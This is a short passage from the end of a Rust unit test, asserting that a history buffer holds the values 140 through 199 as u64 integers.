    assert_eq!(history.iter().copied().collect::<Vec<u64>>(), (140..200).collect::<Vec<u64>>());
}
